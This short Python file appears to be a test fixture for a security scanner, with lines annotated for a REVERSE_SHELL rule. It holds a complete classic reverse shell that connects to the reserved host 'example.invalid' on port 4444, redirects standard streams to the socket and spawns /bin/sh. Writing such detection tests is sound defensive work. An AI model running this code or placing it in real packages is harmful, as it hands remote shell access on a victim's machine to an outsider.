# canary-test: path=mypkg/debug.py artifact=wheel
# The classic Python reverse shell (to a reserved host).
import os
import pty
import socket


def connect_back():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("example.invalid", 4444))
    # ruleid: REVERSE_SHELL
    os.dup2(s.fileno(), 0)
    # ruleid: REVERSE_SHELL
    os.dup2(s.fileno(), 1)
    # ruleid: REVERSE_SHELL
    os.dup2(s.fileno(), 2)
    # ruleid: REVERSE_SHELL
    pty.spawn("/bin/sh")
